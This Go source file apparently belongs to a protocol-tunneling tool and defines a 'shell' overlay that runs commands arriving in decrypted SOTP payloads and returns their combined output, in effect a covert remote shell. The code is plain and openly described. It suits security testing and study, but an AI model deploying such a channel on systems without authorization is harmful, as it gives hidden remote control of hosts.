// Package shell implements the command-execution overlay: it never
// produces data on its own (hasInput=false), only in response to a
// decrypted SOTP payload, which it runs as a shell command and whose
// combined stdout/stderr it submits back.
package shell

import (
	"context"
	"encoding/binary"
	"fmt"
	"os/exec"
	"runtime"
	"strings"

	"github.com/misticateam/mistica/internal/overlay"
)

const moduleName = "shell"

func init() {
	overlay.Global.Register(overlay.Descriptor{
		Name:        moduleName,
		Description: "Executes commands received over SOTP and returns combined stdout/stderr.",
		Args: []overlay.ArgSpec{
			{Name: "tag", Type: "string", Default: "0x1010", Description: "overlay selection tag used in RequestAuth"},
		},
	}, New)
}

type Overlay struct {
	tag [2]byte
}

func New(args map[string]string) (overlay.Overlay, error) {
	tag, err := parseTag(args["tag"])
	if err != nil {
		return nil, err
	}
	return &Overlay{tag: tag}, nil
}

func (o *Overlay) Name() string   { return moduleName }
func (o *Overlay) Tag() [2]byte   { return o.tag }
func (o *Overlay) HasInput() bool { return false }
func (o *Overlay) Close() error   { return nil }

// Pump never produces data on its own; it simply waits for teardown.
func (o *Overlay) Pump(ctx context.Context, submit func([]byte)) error {
	<-ctx.Done()
	return ctx.Err()
}

// ProcessSOTP runs content as a shell command line and returns its
// combined stdout/stderr, or nil if the command produced no output.
func (o *Overlay) ProcessSOTP(content []byte) []byte {
	fields := strings.Fields(string(content))
	if len(fields) == 0 {
		return nil
	}

	var cmd *exec.Cmd
	if runtime.GOOS == "windows" {
		cmd = exec.Command("cmd", append([]string{"/c"}, fields...)...)
	} else {
		cmd = exec.Command(fields[0], fields[1:]...)
	}

	out, _ := cmd.CombinedOutput()
	if len(out) == 0 {
		return nil
	}
	return out
}

func parseTag(s string) ([2]byte, error) {
	if s == "" {
		s = "0x1010"
	}
	var v uint64
	if _, err := fmt.Sscanf(s, "0x%x", &v); err != nil {
		return [2]byte{}, fmt.Errorf("shell overlay: invalid tag %q: %w", s, err)
	}
	var b [2]byte
	binary.BigEndian.PutUint16(b[:], uint16(v))
	return b, nil
}
